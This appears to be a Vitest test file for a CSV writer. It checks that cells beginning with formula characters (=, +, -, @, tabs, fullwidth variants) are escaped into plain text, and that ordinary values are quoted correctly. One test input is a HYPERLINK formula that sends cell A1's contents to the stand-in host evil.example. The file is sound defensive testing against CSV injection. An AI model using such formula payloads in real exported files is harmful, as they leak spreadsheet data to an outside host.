import { expect, test } from 'vitest';
import { csvLine } from '../src/csv.ts';

test.each([
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
])('CSV: %j is written as text that no spreadsheet runs, in every column', (text) => {
  for (const cells of [[text], [1, text], [[text, 'b']]]) expect(csvLine(cells)).toMatch(/^(1,)?"?'/);
});

test.each<[unknown, string]>([
  ['Müller-Lüdenscheid', 'Müller-Lüdenscheid'],
  ['a=b', 'a=b'],
  [-5, '-5'],
  [0, '0'],
  [true, 'true'],
  [undefined, ''],
  [null, ''],
  ['a,b', '"a,b"'],
  ['Smith;=1+1', '"Smith;=1+1"'],
  ['a\tb', '"a\tb"'],
  ['say "x"\n', '"say ""x""\n"'],
  [['a', 'b'], '"a; b"'],
  ['=A, "B"', `"'=A, ""B"""`],
])('CSV: %j is the cell %s', (value, cell) => {
  expect(csvLine([value])).toBe(`${cell}\n`);
});
